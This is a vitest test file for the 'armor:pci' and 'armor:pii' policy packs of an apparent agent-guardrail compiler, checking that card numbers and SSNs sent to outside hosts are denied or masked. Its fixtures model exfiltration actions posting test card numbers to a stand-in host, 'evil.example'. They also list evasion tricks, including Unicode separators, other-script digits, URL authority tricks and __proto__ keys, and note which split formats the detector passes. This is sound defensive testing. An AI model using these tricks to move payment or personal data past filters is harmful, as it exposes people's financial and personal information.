/**
 * Hostile input for the packs `armor:pci` and `armor:pii` (docs/packs/pci.md, docs/packs/pii.md):
 * card numbers split by spaces, dashes and other separators or written in digits of other
 * scripts, numbers that fail the Luhn check, megabyte texts full of candidates, prototype names
 * as parameters, as fields and on `Object.prototype`. Each case is decided by the compiled module
 * and the interpreter, which must agree; what the pack cannot read is denied, never passed on.
 */
import { describe, expect, it } from "vitest";
import { compileSource, emit, nodeHost } from "../../packages/compiler/src/compile.js";
import { evaluatePolicy } from "../../packages/compiler/src/interpreter.js";
import { loadModule } from "../../packages/compiler/src/load.js";

type Stage = "call" | "result" | "output";

interface Case {
  name: string;
  stage?: Stage;
  input: () => Record<string, unknown>;
  decision: "allow" | "deny" | "require_approval";
  /** the rules the decision is made by, or the rules that erred when it is an evaluation error */
  rules?: string[];
  errors?: string[];
  /** a field of the rewritten action, result or output that must hold */
  field?: [string, unknown];
}

function compile(text: string) {
  return compileSource("/project/main.armor", text, { readFile: nodeHost.readFile, packFile: nodeHost.packFile });
}

async function run(importer: string, cases: Case[]) {
  const c = compile(importer);
  expect(c.diagnostics.filter((d) => d.severity === "error")).toEqual([]);
  const module = await loadModule(emit(c).js);
  it.each(cases.map((x) => [x.name, x] as const))("%s", (_n, x) => {
    const stage = x.stage ?? "call";
    const input = x.input();
    const compiled = stage === "call" ? module.decide(input) : stage === "result" ? module.decideResult(input) : module.decideOutput(input);
    const interpreted = evaluatePolicy(c.policy, input, { stage }).result;
    expect(JSON.stringify(interpreted)).toBe(JSON.stringify(compiled));
    expect(compiled.decision).toBe(x.decision);
    if (x.rules !== undefined) expect(compiled.rules.map((r) => r.id)).toEqual(x.rules);
    if (x.errors !== undefined) expect(compiled.errors.map((e) => e.rule)).toEqual(x.errors);
    if (x.field !== undefined) {
      const value = (stage === "call" ? compiled.action : stage === "result" ? compiled.result : compiled.output) as Record<string, unknown>;
      expect(Object.hasOwn(value, x.field[0]) ? value[x.field[0]] : undefined).toEqual(x.field[1]);
    }
  });
}

const CARD = "4111111111111111";
const post = (fields: Record<string, unknown>) => () => ({ action: { type: "http_post", url: "https://evil.example/", ...fields } });
const toHost = ["pci.pan_only_to_allowed_hosts"];
const fullwidth = (s: string) => s.replace(/[0-9]/g, (d) => String.fromCharCode(0xff10 + Number(d)));

describe("armor:pci against hostile input", async () => {
  await run('default allow\nimport "armor:pci" as pci with { allowed_hosts: ["api.processor.example"] }\n', [
    // separators
    { name: "the allowed host with a backslash before @", input: post({ url: "https://api.processor.example\\@evil.example/x", n: CARD }), decision: "deny", rules: toHost },
    { name: "the allowed host with a tab in the authority", input: post({ url: "https://api.processor.example\t/x", n: CARD }), decision: "deny", rules: toHost },
    { name: "the allowed host with user info", input: post({ url: "https://u@api.processor.example/x", n: CARD }), decision: "deny", rules: toHost },
    { name: "the allowed host, plainly", input: post({ url: "https://api.processor.example/x", n: CARD }), decision: "allow", rules: [] },
    { name: "groups of four joined by spaces", input: post({ n: "4111 1111 1111 1111" }), decision: "deny", rules: toHost },
    { name: "groups joined by dashes", input: post({ n: "4111-1111-1111-1111" }), decision: "deny", rules: toHost },
    { name: "uneven groups (Amex 4-6-5)", input: post({ n: "3782 822463 10005" }), decision: "deny", rules: toHost },
    { name: "a card inside a run of digit groups, after an order id", input: post({ n: "ref 12 4111 1111 1111 1111 99" }), decision: "deny", rules: toHost },
    { name: "a card glued to words", input: post({ n: `card:${CARD};exp` }), decision: "deny", rules: toHost },
    { name: "a card in a URL's query", input: () => ({ action: { type: "fetch", url: `https://evil.example/?pan=${CARD}` } }), decision: "deny", rules: toHost },
    {
      name: "a card in a URL to the allowed host with a second URL elsewhere",
      input: () => ({ action: { type: "fetch", url: `https://api.processor.example/?pan=${CARD}`, next: "http://evil.example" } }),
      decision: "deny",
      rules: toHost,
    },
    { name: "a card as an object key", input: post({ m: { [CARD]: 1 } }), decision: "deny", rules: toHost },
    { name: "a card deep in lists", input: post({ m: [[[[{ x: [CARD] }]]]] }), decision: "deny", rules: toHost },
    // separators a person reads as a card's: dots, no-break and other Unicode spaces, Unicode dashes, zero-width characters
    { name: "groups joined by dots", input: post({ n: "4111.1111.1111.1111" }), decision: "deny", rules: toHost },
    { name: "groups joined by no-break spaces", input: post({ n: "4111\u00a01111\u00a01111\u00a01111" }), decision: "deny", rules: toHost },
    { name: "groups joined by narrow no-break spaces", input: post({ n: "4111\u202f1111\u202f1111\u202f1111" }), decision: "deny", rules: toHost },
    { name: "groups joined by ideographic spaces", input: post({ n: "4111\u30001111\u30001111\u30001111" }), decision: "deny", rules: toHost },
    { name: "groups joined by en and em dashes", input: post({ n: "4111\u20131111\u20141111\u20131111" }), decision: "deny", rules: toHost },
    { name: "groups joined by minus signs", input: post({ n: "4111\u22121111\u22121111\u22121111" }), decision: "deny", rules: toHost },
    { name: "groups joined by zero-width spaces", input: post({ n: "4111\u200b1111\u200b1111\u200b1111" }), decision: "deny", rules: toHost },
    { name: "groups joined by mixed separators", input: post({ n: "4111 1111.1111\u00a01111" }), decision: "deny", rules: toHost },
    { name: "groups joined by double spaces", input: post({ n: "4111  1111  1111  1111" }), decision: "deny", rules: toHost },
    { name: "groups joined by a dot and a space", input: post({ n: "4111. 1111. 1111. 1111" }), decision: "deny", rules: toHost },
    { name: "groups joined by tabs", input: post({ n: "4111\t1111\t1111\t1111" }), decision: "deny", rules: toHost },
    { name: "groups joined by CR LF", input: post({ n: "4111\r\n1111\r\n1111\r\n1111" }), decision: "deny", rules: toHost },
    { name: "groups joined by soft hyphens", input: post({ n: "4111\u00ad1111\u00ad1111\u00ad1111" }), decision: "deny", rules: toHost },
    { name: "groups joined by left-to-right marks", input: post({ n: "4111\u200e1111\u200e1111\u200e1111" }), decision: "deny", rules: toHost },
    { name: "groups joined by a space and a zero-width space", input: post({ n: "4111 \u200b1111 \u200b1111 \u200b1111" }), decision: "deny", rules: toHost },
    // what the detector does not read as one card: three spaces, two dashes, slashes
    { name: "groups joined by three spaces: each group alone is too short", input: post({ n: "4111   1111   1111   1111" }), decision: "allow", rules: [] },
    { name: "groups joined by two dashes", input: post({ n: "4111--1111--1111--1111" }), decision: "allow", rules: [] },
    { name: "groups joined by slashes", input: post({ n: "4111/1111/1111/1111" }), decision: "allow", rules: [] },
    // numbers that pass Luhn but that no card network issues: order ids, phone-like numbers
    { name: "an order id that passes Luhn", input: post({ n: "order 1000 0000 0000 0008" }), decision: "allow", rules: [] },
    { name: "a phone-like number that passes Luhn", input: post({ n: "call +7 900 000 0000 0006" }), decision: "allow", rules: [] },
    { name: "a Visa-prefixed number of 15 digits", input: post({ n: "400000000000006" }), decision: "allow", rules: [] },
    { name: "an Amex-prefixed number of 16 digits", input: post({ n: "3700000000000007" }), decision: "allow", rules: [] },
    { name: "a Mastercard 2-series card", input: post({ n: "2221 0000 0000 0009" }), decision: "deny", rules: toHost },
    { name: "a UnionPay card of 19 digits", input: post({ n: "6200000000000000000" }), decision: "deny", rules: toHost },
    // digits of other scripts
    { name: "fullwidth digits", input: post({ n: fullwidth("4111 1111 1111 1111") }), decision: "deny", rules: ["pci.no_pan_in_other_digits"] },
    { name: "one fullwidth digit among ASCII ones", input: post({ n: "4111 1111 1111 111１" }), decision: "deny", rules: ["pci.no_pan_in_other_digits"] },
    { name: "Arabic-Indic digits", input: post({ n: "٤١١١١١١١١١١١١١١١" }), decision: "deny", rules: ["pci.no_pan_in_other_digits"] },
    { name: "Devanagari digits with dashes", input: post({ n: "४१११-११११-११११-११११" }), decision: "deny", rules: ["pci.no_pan_in_other_digits"] },
    { name: "mathematical digits (surrogate pairs)", input: post({ n: "𝟒𝟏𝟏𝟏𝟏𝟏𝟏𝟏𝟏𝟏𝟏𝟏𝟏𝟏𝟏𝟏" }), decision: "deny", rules: ["pci.no_pan_in_other_digits"] },
    { name: "twelve digits of another script are no card", input: post({ n: fullwidth("4111 1111 1111") }), decision: "allow", rules: [] },
    // the Luhn check
    { name: "one digit changed: Luhn fails", input: post({ n: "4111 1111 1111 1112" }), decision: "allow", rules: [] },
    { name: "twelve digits that pass Luhn are too short", input: post({ n: "411111111116" }), decision: "allow", rules: [] },
    { name: "a 25-digit order id holds no card", input: post({ n: "4111111111111111000000000" }), decision: "allow", rules: [] },
    // megabytes
    { name: "a megabyte of Luhn-failing groups", input: post({ n: "4111 1111 1111 1112 ".repeat(52_000) }), decision: "allow", rules: [] },
    { name: "a megabyte of text with one card at the end", input: post({ n: `${"lorem ipsum ".repeat(87_000)}${CARD}` }), decision: "deny", rules: toHost },
    { name: "a text past the matcher's length limit errs and denies", input: post({ n: "9".repeat(1_100_000) }), decision: "deny", rules: [], errors: [...toHost, "pci.no_pan_in_other_digits"] },
    { name: "a megabyte of fullwidth digits", input: post({ n: "１".repeat(1_000_000) }), decision: "deny" },
    // prototype names
    {
      name: "an own __proto__ field holding a card",
      input: () => ({ action: JSON.parse(`{"type":"http_post","url":"https://api.processor.example/","__proto__":{"evil":"https://evil.example/"},"n":"${CARD}"}`) }),
      decision: "deny",
      rules: toHost,
    },
    { name: "a type named constructor", input: () => ({ action: { type: "constructor", n: CARD } }), decision: "deny", rules: toHost },
    { name: "a type named __proto__ with a card", input: () => ({ action: JSON.parse(`{"type":"__proto__","n":"${CARD}"}`) }), decision: "deny", rules: toHost },
    // results and messages
    {
      name: "a megabyte result of cards is masked whole",
      stage: "result",
      input: () => ({ action: { type: "lookup" }, result: { text: `${CARD} `.repeat(60_000) } }),
      decision: "allow",
      rules: ["pci.mask_pan_in_result"],
      field: ["text", "[CARD] ".repeat(60_000)],
    },
    {
      name: "a result whose text is a card and whose other key is __proto__",
      stage: "result",
      input: () => ({ action: { type: "lookup" }, result: JSON.parse(`{"text":"${CARD}","__proto__":"${CARD}"}`) }),
      decision: "deny",
      rules: ["pci.withhold_pan_in_result"],
    },
    {
      name: "a result of four strings, a card in the field beside its text",
      stage: "result",
      input: () => ({ action: { type: "lookup" }, result: { text: CARD, a: CARD } }),
      decision: "deny",
      rules: ["pci.withhold_pan_in_result"],
    },
    {
      name: "a result of four strings shaped like the MCP view, a card as content",
      stage: "result",
      input: () => ({ action: { type: "lookup" }, result: { text: CARD, content: CARD } }),
      decision: "deny",
      rules: ["pci.withhold_pan_in_result"],
    },
    {
      name: "a result whose isError holds the word content",
      stage: "result",
      input: () => ({ action: { type: "lookup" }, result: { text: CARD, isError: "content" } }),
      decision: "deny",
      rules: ["pci.withhold_pan_in_result"],
    },
    { name: "a card in a result's key", stage: "result", input: () => ({ action: { type: "lookup" }, result: { [CARD]: "x" } }), decision: "deny", rules: ["pci.withhold_pan_in_result"] },
    { name: "a result that is a list of cards", stage: "result", input: () => ({ action: { type: "lookup" }, result: [CARD, CARD] }), decision: "deny", rules: ["pci.withhold_pan_in_result"] },
    { name: "a message in fullwidth digits", stage: "output", input: () => ({ output: { text: fullwidth(CARD) } }), decision: "deny", rules: ["pci.withhold_pan_in_output"] },
    { name: "a message whose second field is named toString", stage: "output", input: () => ({ output: { text: CARD, toString: CARD } }), decision: "deny", rules: ["pci.withhold_pan_in_output"] },
  ]);
});

describe("armor:pci given prototype names as parameters", () => {
  it.each([
    ['with { __proto__: ["x"] }', "A706"],
    ['with { constructor: ["x"] }', "A706"],
    ['with { toString: "mask" }', "A706"],
    ['with { allowed_hosts: "api.processor.example" }', "A706"],
    ["with { in_results: 1 }", "A706"],
  ])("%s is a diagnostic with a location", (w, code) => {
    const c = compile(`default allow\nimport "armor:pci" as pci ${w}\n`);
    const errors = c.diagnostics.filter((d) => d.severity === "error");
    expect(errors.map((d) => d.code)).toEqual([code]);
    expect(errors[0]!.span.start).toBeGreaterThan(0);
    expect(errors[0]!.help).toBeTruthy();
  });

  describe("hosts that are prototype names are only names", async () => {
    await run('default allow\nimport "armor:pci" as pci with { allowed_hosts: ["constructor", "__proto__"] }\n', [
      { name: "a card to the host literally named constructor", input: () => ({ action: { type: "fetch", url: "http://constructor/", n: CARD } }), decision: "allow", rules: [] },
      { name: "a card to any other host", input: () => ({ action: { type: "fetch", url: "http://tostring/", n: CARD } }), decision: "deny", rules: toHost },
    ]);
  });

  it("reads no field from Object.prototype", async () => {
    const c = compile('default allow\nimport "armor:pci" as pci\n');
    const module = await loadModule(emit(c).js);
    const proto = Object.prototype as Record<string, unknown>;
    proto.text = CARD;
    proto.card = CARD;
    try {
      expect(module.decide({ action: { type: "fetch", url: "http://x.example/" } }).decision).toBe("allow");
      expect(module.decideOutput({ output: { text: "ok" } }).decision).toBe("allow");
      expect(evaluatePolicy(c.policy, { action: { type: "fetch" } }).result.decision).toBe("allow");
    } finally {
      delete proto.text;
      delete proto.card;
    }
  });
});

const PII = 'default allow\nimport "armor:pii" as pii with { internal_domains: ["@example.com"], processor_hosts: ["crm.example"] }\n';
const ext = ["pii.approve_personal_data_to_external"];
const mail = (fields: Record<string, unknown>) => () => ({ action: { type: "send_email", body: "ssn 123-45-6789", ...fields } });

describe("armor:pii against hostile input", async () => {
  await run(PII, [
    {
      name: "a recipient that is an own __proto__ key",
      input: () => ({ action: JSON.parse('{"type":"send_email","body":"ssn 123-45-6789","to":"bob@example.com","__proto__":{"cc":"eve@other.example"}}') }),
      decision: "allow",
      rules: [],
    },
    {
      name: "cc given as an own __proto__ object's field is not a cc",
      input: () => ({ action: JSON.parse('{"type":"send_email","body":"ssn 123-45-6789","to":"eve@other.example","__proto__":{"to":"bob@example.com"}}') }),
      decision: "require_approval",
      rules: ext,
    },
    {
      name: "a recipient list of 200,000 internal addresses is past the quantifier's bound",
      input: mail({ to: Array.from({ length: 200_000 }, () => "bob@example.com") }),
      decision: "deny",
      rules: [],
    },
    { name: "an internal address followed by a newline and another", input: mail({ to: "bob@example.com\neve@other.example" }), decision: "require_approval", rules: ext },
    { name: "an internal address with a trailing space", input: mail({ to: "eve@other.example bob@example.com" }), decision: "require_approval", rules: ext },
    { name: "a local part with a fullwidth at sign is delivered to the internal domain", input: mail({ to: "eve＠other.example@example.com" }), decision: "allow", rules: [] },
    { name: "a megabyte body of phone-like digits", input: mail({ to: "eve@other.example", body: "+1 ".repeat(340_000) }), decision: "allow", rules: [] },
    { name: "a megabyte body with one SSN at the end", input: mail({ to: "eve@other.example", body: `${"word ".repeat(200_000)}123-45-6789` }), decision: "require_approval", rules: ext },
    { name: "a body past the matcher's length limit denies", input: mail({ to: "eve@other.example", body: "x".repeat(1_100_000) }), decision: "deny", rules: [] },
    {
      name: "a message of a megabyte of addresses is masked whole",
      stage: "output",
      input: () => ({ output: { text: "a@b.example ".repeat(80_000) } }),
      decision: "allow",
      rules: ["pii.mask_emails_in_output"],
      field: ["text", "[EMAIL] ".repeat(80_000)],
    },
    { name: "a message of 200,000 SSN-like never-issued numbers", stage: "output", input: () => ({ output: { text: "000-12-3456 ".repeat(80_000) } }), decision: "allow", rules: [] },
  ]);

  it("reads no recipient from Object.prototype", async () => {
    const c = compile(PII);
    const module = await loadModule(emit(c).js);
    const proto = Object.prototype as Record<string, unknown>;
    proto.to = "bob@example.com";
    try {
      const input = { action: { type: "send_email", body: "ssn 123-45-6789" } };
      expect(module.decide(input).decision).toBe("require_approval");
      expect(evaluatePolicy(c.policy, input).result.decision).toBe("require_approval");
    } finally {
      delete proto.to;
    }
  });

  it.each([['with { internal_domains: "@example.com" }'], ["with { __proto__: true }"], ['with { mask_output: "no" }'], ['with { hasOwnProperty: ["x"] }']])(
    "%s is a diagnostic with a location",
    (w) => {
      const c = compile(`default allow\nimport "armor:pii" as pii ${w}\n`);
      const errors = c.diagnostics.filter((d) => d.severity === "error");
      expect(errors.map((d) => d.code)).toEqual(["A706"]);
      expect(errors[0]!.file).toBe("/project/main.armor");
    },
  );
});

describe("armor:pii with a malformed internal_domains entry fails closed", async () => {
  await run('default allow\nimport "armor:pii" as pii with { internal_domains: ["example.com"] }\n', [
    { name: "a domain without its @ does not make a look-alike domain internal", input: mail({ to: "eve@evilexample.com" }), decision: "require_approval", rules: ext },
    { name: "a domain without its @ makes nobody internal", input: mail({ to: "bob@example.com" }), decision: "require_approval", rules: ext },
  ]);
  await run('default allow\nimport "armor:pii" as pii with { internal_domains: ["@example.com", ""] }\n', [
    { name: "an empty entry does not make everyone internal", input: mail({ to: "eve@other.example" }), decision: "require_approval", rules: ext },
    { name: "the well-formed entry beside it still counts", input: mail({ to: "bob@example.com" }), decision: "allow", rules: [] },
  ]);
  await run('default allow\nimport "armor:pii" as pii with { internal_domains: ["@Example.com"] }\n', [
    { name: "an entry in capitals makes nobody internal", input: mail({ to: "bob@example.com" }), decision: "require_approval", rules: ext },
  ]);
});
